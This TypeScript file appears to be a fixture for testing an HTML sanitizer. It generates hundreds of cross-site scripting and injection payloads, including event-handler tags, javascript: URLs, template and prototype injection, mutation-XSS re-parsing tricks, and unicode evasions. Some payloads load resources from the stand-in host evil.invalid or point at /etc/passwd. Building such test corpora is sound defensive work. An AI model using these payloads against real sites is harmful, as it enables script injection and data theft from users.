/**
 * Script payloads, as a hostile text or a hostile colleague would write them into names and quotes.
 * Each tries to call `mizanRan`, or to fetch from `evil.invalid`. Written out from their ways of
 * breaking out: tag and handler, script, address, attribute, template, re-parsing, style, letter.
 */

const CALL = 'mizanRan(1)';

const HANDLERS: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe srcdoc=x', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['div style=animation-name:x', 'onanimationstart'],
  ['p style=transition:color 1s', 'ontransitionend'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['math><mi', 'onmouseover'],
  ['b', 'onmouseover'],
  ['bdi', 'onpointerenter'],
  ['form><input type=image src=x', 'onerror'],
  ['dialog open', 'onfocusin'],
  ['track kind=metadata src=x', 'onerror'],
];

/** Ways of writing a tag's handler that a filter may overlook. */
const SPELLINGS: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}="${CALL}">`,
  (tag, handler) => `<${tag} ${handler}='${CALL}'>`,
  (tag, handler) => `<${tag} ${handler}=${CALL}>`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=${CALL}>`,
  (tag, handler) => `<${tag.replaceAll(' ', '/')}/${handler}=${CALL}//`,
  (tag, handler) => `"><${tag} ${handler}=${CALL}>`,
  (tag, handler) => `'><${tag} ${handler}=${CALL}>`,
  (tag, handler) => `</bdi></p></td></script></style></title><${tag} ${handler}=${CALL}>`,
  (tag, handler) => `<${tag} ${handler}\n=\n"&#109;izanRan&#40;1&#41;">`,
  (tag, handler) => `--><${tag} x=\`\` ${handler}=${CALL} <!--`,
  (tag, handler) => `<${tag}\t${handler}=\u{2028}${CALL}>`,
];

const ADDRESSES = [
  `javascript:${CALL}`,
  ` JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5taXphblJhbigxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  'http://evil.invalid/a',
  '//evil.invalid/b',
  '\\\\evil.invalid\\c',
  'file:///etc/passwd',
];

const HOLDERS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">open</a>`,
  (address) => `[open](${address})`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) =>
    `<svg><a xlink:href="${address}"><text>open</text></a><use href="${address}"/></svg>`,
  (address) => `<form action="${address}"><button autofocus>go</button></form>`,
  (address) => `![](${address})`,
];

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script>`,
  `<script type=module>${CALL}</script>`,
  `<script src=//evil.invalid/s.js></script>`,
  `</script><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<<script>${CALL}//<</script>`,
  `<!--<script>${CALL}//--></script>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><html:script xmlns:html='http://www.w3.org/1999/xhtml'>${CALL}</html:script>`,
];

const ATTRIBUTES = [
  `" onmouseover="${CALL}`,
  `' onmouseover='${CALL}`,
  `" autofocus onfocus="${CALL}" x="`,
  '` onmouseover=`mizanRan(1)',
  `" style="animation-name:x" onanimationstart="${CALL}"`,
  `x" href="javascript:${CALL}" y="`,
  `\\" onload=\\"${CALL}`,
  `&quot; onmouseover=&quot;${CALL}`,
  `";${CALL};//`,
  `';${CALL};//`,
  `\`;${CALL};//`,
  `\\';${CALL};//`,
  `"}];${CALL};//`,
  `</script>";${CALL}//`,
  `\u2028${CALL}\u2029`,
  `*/${CALL}/*`,
  `'-${CALL}-'`,
  `"+${CALL}+"`,
];

const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{% raw %}<script>${CALL}</script>{% endraw %}`,
  `[[${CALL}]]`,
  `{{{<script>${CALL}</script>}}}`,
  `<div v-html="'<img src=x onerror=${CALL}>'"></div>`,
  `<div ng-app ng-init="constructor.constructor('${CALL}')()">`,
  `{"__html":"<img src=x onerror=${CALL}>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  '__proto__',
  'constructor',
  'toString',
];

/** Markup that turns dangerous when what was parsed is written out and parsed again. */
const REPARSED = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${CALL}>"></textarea>`,
  `<title><a title="</title><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<svg><foreignObject><math><mi//xlink:href="data:x,<img src=x onerror=${CALL}>">`,
  `<select><iframe></select><img src=x onerror=${CALL}>`,
  `<table><td><a href=x><table><img src=x onerror=${CALL}>`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${CALL}&gt;</style></svg>`,
];

const STYLES = [
  `</style><style>@import 'http://evil.invalid/i.css';`,
  `<style>*{background:url(http://evil.invalid/u)}</style>`,
  `<link rel=stylesheet href=http://evil.invalid/l.css>`,
  `<link rel=preload as=image href=http://evil.invalid/p>`,
  `<meta http-equiv=refresh content="0;url=http://evil.invalid/m">`,
  `<base href=http://evil.invalid/>`,
  `<img src=http://evil.invalid/img>`,
  `<img srcset="http://evil.invalid/set 1x">`,
  `<input type=image src=http://evil.invalid/input>`,
  `<body background=http://evil.invalid/bg>`,
  `<svg><image href=http://evil.invalid/svg /></svg>`,
  `expression(${CALL})`,
  `x:expression(${CALL})`,
  `;background:url(javascript:${CALL})`,
  `}</style><script>${CALL}</script>`,
];

const LETTERS = [
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `<\u200bscript>${CALL}</script>`,
  `<s\u0301cript>${CALL}</script>`,
  `\u202e<script>${CALL}</script>`,
  `\u2067<img src=x onerror=${CALL}>\u2069`,
  `\u061c<svg onload=${CALL}>`,
  `<img src=x o\u00adnerror=${CALL}>`,
  `<\u0130mg src=x onerror=${CALL}>`,
  `<\u017fcript>${CALL}</\u017fcript>`,
  `\ufeff<script>${CALL}</script>`,
  `مالي<script>${CALL}</script>روسيا`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
];

/** All of them, at least 500, always in the same order: the short families first. */
export const payloads: readonly string[] = [
  ...new Set([
    ...SCRIPTS,
    ...ATTRIBUTES,
    ...TEMPLATES,
    ...REPARSED,
    ...STYLES,
    ...LETTERS,
    ...ADDRESSES.flatMap((address) => HOLDERS.map((hold) => hold(address))),
    ...SPELLINGS.flatMap((spell) => HANDLERS.map(([tag, handler]) => spell(tag, handler))),
  ]),
];

/** So many of them, taken from all families alike. */
export function sampleOf(count: number): readonly string[] {
  const step = Math.max(1, payloads.length / count);
  return Array.from({ length: Math.min(count, payloads.length) }, (_, at) =>
    String(payloads[Math.floor(at * step)]),
  );
}
